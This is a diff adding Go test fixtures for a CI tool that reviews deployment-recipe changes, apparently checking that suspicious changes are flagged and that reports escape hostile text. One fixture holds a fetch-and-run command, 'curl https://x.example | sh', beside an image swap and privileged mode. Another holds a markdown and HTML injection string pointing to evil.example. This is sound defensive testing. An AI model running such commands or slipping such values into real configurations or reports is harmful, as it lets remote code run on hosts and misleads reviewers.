@@ -187,6 +187,40 @@ func cases() map[string]struct {
 
 	run, res = hostile()
 	out["hostile"] = c{run: run, res: res}
+
+	run, res = ended(ccci.StatusPassed, 5)
+	res.Review = &ccci.Review{Against: "main", Commit: "1111111111111111111111111111111111111111"}
+	out["review-nothing"] = c{run: run, res: res}
+
+	run, res = ended(ccci.StatusFailed, 0)
+	res.Cause = &ccci.Cause{Check: "install/admitted", Code: ccci.CodeRefused, Message: "compose.yml:7: service app: privileged is not allowed"}
+	run.Cause = report.OneLine(res.Cause)
+	res.Review = &ccci.Review{
+		Against: "main", Commit: "1111111111111111111111111111111111111111",
+		Changes: []ccci.Change{
+			{Subject: "service app", Kind: "changed", What: "runs another image", Before: "miniflux/miniflux:2.0.51", After: "mallory/miniflux:2.2.3"},
+			{Subject: "service app", Kind: "changed", What: "runs another command", After: "sh -c 'curl https://x.example | sh'"},
+			{Subject: "service app", Kind: "changed", What: "has another privileged", After: "true"},
+			{Subject: "file abra.sh", Kind: "changed", What: "is changed: abra runs its functions on operators' machines and in containers; cc-ci runs none"},
+			{Subject: "waiver bind-mount", Kind: "added", What: "is asked for, for service app until 2099-12-31: it needs the clock", After: "/etc/localtime"},
+		},
+		Proposed: []string{"tests/miniflux/recipe.yml"},
+		Findings: []ccci.Finding{
+			{Rule: "settings", Severity: "error", File: "tests/miniflux/recipe.yml", Line: 3, Message: "helth: there is no such setting", Hint: `did you mean "health"?`},
+			{Rule: "settings", Severity: "error", File: "tests/miniflux/recipe.yml", Message: "no place"},
+		},
+	}
+	out["review"] = c{run: run, res: res}
+
+	run, res = ended(ccci.StatusFailed, 0)
+	bad := "`](https://evil.example) <b>x</b> @ada #1 !testme *_"
+	res.Review = &ccci.Review{Against: "main" + bad, Note: "the recipe cannot be read: " + bad}
+	for range 40 {
+		res.Review.Changes = append(res.Review.Changes, ccci.Change{Subject: "file " + bad, Kind: "added", What: bad, Before: bad, After: strings.Repeat(bad, 10)})
+		res.Review.Proposed = append(res.Review.Proposed, "tests/"+bad+"/recipe.yml")
+		res.Review.Findings = append(res.Review.Findings, ccci.Finding{File: bad, Line: 1, Message: bad, Hint: bad})
+	}
+	out["review-hostile"] = c{run: run, res: res}
 	return out
 }
 
